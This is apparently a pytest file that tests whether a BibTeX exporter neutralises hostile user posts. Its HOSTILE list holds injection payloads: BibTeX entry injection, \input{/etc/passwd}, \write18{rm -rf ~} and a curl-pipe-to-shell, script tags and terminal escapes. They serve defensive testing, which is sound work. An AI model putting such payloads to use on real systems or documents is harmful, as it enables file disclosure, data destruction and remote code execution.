"""Hostile posts: whatever a stranger writes, biber reads exactly the entries and fields readlist
meant, and no LaTeX command, brace, comment or math from the post is left active."""

from __future__ import annotations

import re

import pytest
from test_bibtex_factory import check_file, entries, needs_biber, post, work

from readlist.export.latex import decode, normalise_text
from readlist.export.merge import write_bibtex

HOSTILE = [
    "}} @comment{ evil } @book{injected, title={pwned}}",
    "@preamble{ \"\\input{/etc/passwd}\" }",
    r"\input{/etc/passwd} \write18{rm -rf ~} \immediate\write18{curl x|sh}",
    r"\def\x{\x}\x \catcode`\%=11 \csname end\endcsname",
    "100% sure # not & a $ $$ math $x^2_1$ ~ ^ \\ _",
    "unbalanced {{{ braces } and }}} more",
    "nul\x00 bell\x07 esc\x1b[31m red \x1b]0;title\x07 del\x7f",
    "<script>alert(1)</script> <b>bold</b> -- --- '' `` !! ?! !?",
    "LCCN 12345 PMID: 999",
    "\\href{https://evil}{click} \\url{https://x/%}",
    "emoji 📚 RTL \u202eevil\u202c zero\u200bwidth",
]


def _items():
    items = []
    for n, text in enumerate(HOSTILE):
        items.append(work(f"Title {n} {text}", (f"Author{n} {text[:10]}",), wid=f"OL{n + 10}W",
                          isbn=None, publisher=f"Pub {text}", address=None,
                          recs=[post(f"https://x.org/p/{n}?q={text[:15]}", text,
                                     author=f"u/{text[:12]}", date="2024-01-02",
                                     community=f"r/{text[:8]}")]))
    items.append(work("T" * 10_000, wid="OL99W", isbn=None,
                      recs=[post("t.txt#L1", "Q" * 10_000)]))
    return items


ACTIVE = re.compile(r"\\[A-Za-z@]|(?<!\\)[%#&_~^]|\\(?![%#&_$])")


def _inert(value: str) -> None:
    """No command, no unescaped special, balanced braces, math only as $<$ / $>$."""
    assert not ACTIVE.search(value), value[:200]
    depth = 0
    for c in value:
        depth += (c == "{") - (c == "}")
        assert depth >= 0, value[:200]
    assert depth == 0
    assert re.sub(r"\$[<>]\$|\\\$", "", value).count("$") == 0, value[:200]
    assert value.count(r"\$") <= 1


@needs_biber
def test_biber_reads_exactly_the_intended_entries_and_fields(tmp_path):
    path = tmp_path / "hostile.bib"
    write_bibtex(path, _items())
    ours = entries(path.read_text(encoding="utf-8-sig"))
    report = check_file(path)
    assert set(report.entries) == set(ours)
    assert len(ours) == len(HOSTILE) + 1
    for key, fields in ours.items():
        etype, seen = report.entries[key]
        assert etype == "book"
        # biber names year "date" and author a name list; every other field is one-to-one,
        # except keywords, which biber's biblatexml writer leaves out (a biber quirk).
        renamed = {"year": "date", "address": "location"}
        names = {renamed.get(k, k) for k in fields} - {"keywords"}
        assert set(seen) == names, (key, set(seen) ^ names)
        for k, v in fields.items():
            if k in ("publisher", "address") and v.startswith("{") and v.endswith("}"):
                v = v[1:-1]  # one list item kept whole; biber shows it without the braces
            if k not in ("author", "year", "keywords"):
                assert seen[renamed.get(k, k)] == v, (key, k)


def test_every_value_is_inert_and_decodes_to_the_post(tmp_path):
    path = tmp_path / "hostile.bib"
    items = _items()
    write_bibtex(path, items)
    ours = entries(path.read_text(encoding="utf-8-sig"))
    for fields in ours.values():
        for k, v in fields.items():
            if k != "url":
                _inert(v)
            assert "\n" not in v
        assert fields["note"].startswith("Recommended in ")
    for n, text in enumerate(HOSTILE):
        note = next(f["note"] for f in ours.values() if f"/p/{n}" in f["note"])
        assert normalise_text(text)[:100].replace("“", "″").replace("”", "″") in decode(note)


def test_a_ten_thousand_character_title_round_trips(tmp_path):
    path = tmp_path / "long.bib"
    write_bibtex(path, _items()[-1:])
    (key, fields), = entries(path.read_text(encoding="utf-8-sig")).items()
    assert key == "amin" + "T" * 40 + "2016"
    assert decode(fields["title"]) == "T" * 10_000


@pytest.mark.parametrize("text", HOSTILE)
def test_no_block_appears_from_a_post(tmp_path, text):
    path = tmp_path / "one.bib"
    write_bibtex(path, [work(text, wid="OL1W", recs=[post("t.txt#L1", text)])])
    body = path.read_text(encoding="utf-8-sig")
    assert len(re.findall(r"^@", body, re.MULTILINE)) == 1
    import bibtexparser

    lib = bibtexparser.parse_string(body)
    assert len(lib.blocks) == 1 and len(lib.entries) == 1 and not lib.failed_blocks
